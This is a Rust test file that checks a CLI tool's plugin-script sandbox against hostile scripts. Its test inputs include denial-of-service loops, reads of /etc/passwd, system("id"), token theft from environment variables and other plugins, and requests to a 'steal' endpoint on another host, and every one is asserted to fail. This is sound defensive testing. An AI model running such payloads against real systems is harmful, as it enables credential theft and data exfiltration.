//! Scripts that a person was tricked into installing: they end, in time, with an error that names the place.

use std::time::{Duration, Instant};

use crate::environment::{Ran, SECRET, TestEnvironment};
use crate::server::Server;

/// Runs a group of scripts in which `hostile` is the body of the command `list`.
fn run(environment: &TestEnvironment, body: &str, more: &[&str]) -> Ran {
    environment
        .script("stripe/balance.rhai", &format!("fn get() {{\n    {body}\n}}\nfn again() {{ again() }}\n"));
    environment.run(["stripe", "balance", "get", "--max-time", "2"].iter().chain(more))
}

#[test]
fn what_never_ends_is_ended() {
    let environment = TestEnvironment::stripe();
    for body in [
        "loop { }",
        "loop { try { loop { } } catch { } }",
        "let s = \"x\"; loop { s += s; }",
        "let s = \"x\"; loop { s = `${s}${s}`; }",
        "let a = []; loop { a.push([1, 2, 3]); }",
        "let m = #{}; let i = 0; loop { m[`k${i}`] = i; i += 1; }",
        "let b = blob(1); loop { b += b; }",
        "again()",
        "[1].map(|x| again())",
        "sleep(1000000)",
        "let s = \"x\"; s.pad(16000000, 'x'); let all = []; loop { all.push(|| s); s += \"y\"; }",
    ] {
        let started = Instant::now();
        let ran = run(&environment, body, &[]).fails(7);
        assert!(ran.stderr.contains("balance.rhai:"), "{body}: {ran}");
        assert!(started.elapsed() < Duration::from_secs(20), "{body}: {:?}", started.elapsed());
    }
}

#[test]
fn nothing_else_is_loaded_or_evaluated() {
    let environment = TestEnvironment::stripe();
    let secret = environment.write("mine.rhai", "fn stolen() { 1 }");
    let folder = secret.parent().unwrap().file_name().unwrap().to_string_lossy().into_owned();
    for body in [
        "import \"mine\" as m; m::stolen()".to_owned(),
        format!("import \"{}\" as m; m::stolen()", secret.with_extension("").display()),
        format!("import \"../../{folder}/mine\" as m;"),
        "eval(\"1 + 1\")".to_owned(),
        "Fn(\"eval\").call(\"1\")".to_owned(),
        "call(\"eval\", \"1\")".to_owned(),
        "open_file(\"/etc/passwd\")".to_owned(),
        "fs::read(\"/etc/passwd\")".to_owned(),
        "env(\"APICLI_STRIPE_TOKEN\")".to_owned(),
        "http::get(\"file:///etc/passwd\").send()".to_owned(),
        "system(\"id\")".to_owned(),
    ] {
        run(&environment, &body, &[]).fails(7);
    }
}

#[test]
fn a_file_is_uploaded_only_if_a_person_named_it() {
    let environment = TestEnvironment::stripe();
    let server = Server::json(200, "{}");
    for body in [
        "http::post(\"/v1/files\").multipart(#{file: \"/etc/passwd\"}).send()",
        "let r = http::post(\"/v1/files\"); r.file(\"file\", \"/etc/passwd\"); r.send()",
        "http::post(\"/v1/files\").body(\"@/etc/passwd\").send()",
    ] {
        run(&environment, body, &["--server", server.url()]);
    }
    for asked in server.asked() {
        assert!(!asked.text().contains("root:"), "{asked:?}");
    }
}

#[test]
fn another_host_is_not_called() {
    let environment = TestEnvironment::stripe();
    let (named, other) = (Server::json(200, "{}"), Server::json(200, "{}"));
    for body in [
        format!("http::get(\"{}/v1/steal\").send()", other.url()),
        format!("try {{ http::get(\"{}/v1/steal\").send() }} catch {{ }} 1", other.url()),
        format!("http::post(\"{}\").form(#{{a: 1}}).send()", other.url()),
        format!("http::get(\"{}@{}/x\").send()", named.url(), other.url().trim_start_matches("http://")),
        format!("http::get(\"{}/x\").credential(credentials::scheme(\"bearerAuth\")).send()", other.url()),
    ] {
        for server in [Some(named.url()), None] {
            let more: Vec<&str> = server.into_iter().flat_map(|url| ["--server", url]).collect();
            let ran = run(&environment, &body, &more);
            assert!(matches!(ran.code, Some(3 | 7)), "{ran}");
            assert!(ran.stderr.starts_with("error: ") && ran.stdout.is_empty(), "{ran}");
        }
    }
    assert!(other.asked().is_empty(), "{:?}", other.asked());
    assert!(named.asked().is_empty());
}

#[test]
fn a_secret_is_not_had() {
    // Another plugin is there, logged in.
    let environment = TestEnvironment::stripe().with("APICLI_GITHUB_TOKEN", "ghp_other-plugins");
    let github = "openapi: 3.0.3\ninfo: { title: G, version: '1' }\nservers: [{ url: https://api.github.example }]\nsecurity: [{ token: [] }]\npaths: { /user: { get: { responses: { '200': { description: x } } } } }\ncomponents: { securitySchemes: { token: { type: http, scheme: bearer } } }\n";
    environment.generate("github", github).ok();
    let server = Server::json(200, "{}");
    for body in [
        "credentials::scheme(\"token\")",
        "credentials::scheme(\"github:token\")",
        "credentials::scheme(\"../github/token\")",
        "http::get(\"/v1/balance\").credential(credentials::scheme(\"token\")).send()",
        "http::get(\"/v1/balance\").header(\"authorization\", \"Bearer x\").send()",
        "credentials::get(\"github\", \"token\")",
    ] {
        let ran = run(&environment, body, &["--server", server.url()]);
        assert!(matches!(ran.code, Some(3 | 7)), "{body}: {ran}");
        assert!(!ran.stderr.contains("ghp_") && ran.stdout.is_empty(), "{ran}");
    }
    assert!(server.asked().is_empty());
    // Its own is a name, however it is turned; `run` looks for the secret in all that is shown.
    for body in [
        "let c = credentials::scheme(\"bearerAuth\"); print(c); `${c} ${[c]} ${#{c: c}}`",
        "let r = http::get(\"/v1/balance\"); r.send(); print(r); `${r}`",
        "let r = http::get(\"/v1/balance\"); r.send(); throw r",
        "throw credentials::scheme(\"bearerAuth\")",
    ] {
        let ran = run(&environment, body, &["--server", server.url(), "-v"]);
        assert!(!ran.stdout_text().contains("Bearer sk") && !ran.stderr.contains("Bearer sk"), "{ran}");
    }
    assert!(
        server
            .asked()
            .iter()
            .all(|asked| asked.header("authorization") == Some(format!("Bearer {SECRET}").as_str()))
    );
}

#[test]
fn natives_cannot_be_replaced() {
    let environment = TestEnvironment::stripe();
    let server = Server::json(200, r#"{"real":true}"#);
    environment.script(
        "stripe/balance.rhai",
        "fn get() { http::get(\"/v1/balance\").send() }\nfn send(r) { \"fake\" }\nfn http() { 1 }\nfn get_(p) { \"fake\" }\nfn to_json(x) { \"fake\" }\n",
    );
    environment.line(&format!("stripe balance get --server {}", server.url())).ok().prints("real");
    for text in
        ["fn http::get(x) { 1 }", "let x = 1;\nfn get() { x }", "print(1);", "const X = 1; fn get() { X }"]
    {
        environment.script("stripe/balance.rhai", text);
        environment.line("stripe balance get --dry-run").fails(7).says("balance.rhai:1");
    }
}

#[test]
fn an_error_in_a_script_shows_place_caret_and_chain() {
    let environment = TestEnvironment::stripe();
    environment.script(
        "stripe/balance.rhai",
        "/// Get.\nfn get() {\n    let x = outer(1);\n    x\n}\n\nprivate fn outer(n) {\n    inner(n)\n}\n\nprivate fn inner(n) {\n    n + missing\n}\n",
    );
    let ran = environment.line("stripe balance get --dry-run").fails(7);
    let shown = ran.stderr.replace(environment.plugins().to_str().unwrap(), "");
    for part in [
        "missing",
        "stripe/balance.rhai:12:9",
        "12 |     n + missing",
        "   |         ^",
        "in `inner`, called from",
        "in `outer`, called from",
    ] {
        assert!(shown.contains(part), "`{part}` is missing: {ran}");
    }
    let ran = environment.line("stripe balance get --dry-run --error-format json");
    assert_eq!(ran.code, Some(7));
    let error: serde_json::Value = serde_json::from_str(&ran.stderr).unwrap();
    assert_eq!((&error["error"]["kind"], &error["error"]["place"]["line"]), (&"script".into(), &12.into()));
}
